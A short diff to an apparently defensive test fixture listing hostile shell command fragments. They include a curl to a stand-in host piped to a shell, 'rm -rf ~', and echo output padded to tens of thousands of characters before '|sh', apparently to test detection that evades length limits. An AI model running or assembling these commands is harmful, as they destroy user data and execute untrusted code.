@@ -52,6 +52,7 @@ const HOSTILE: readonly (readonly [string, string, string?])[] = [
   ['curl', ' a#.example'],
   ['', 'curl a#.example|'],
   [`rm -rf ~;echo ${'a'.repeat(48_900)}`, '|tr -d z', '|sh'],
+  [`echo ${'A'.repeat(48_900)}`, `|tr -d ${'a-z'.repeat(19)}`, '|sh'],
   [`echo ${'ab'.repeat(20_000)}`, '|rev', '|sh'],
   [`echo ${'a'.repeat(30_000)}`, '|sed s/b/c/', '|sh'],
   [`echo ${'a'.repeat(30_000)}|{ `, 'psql;', '}'],
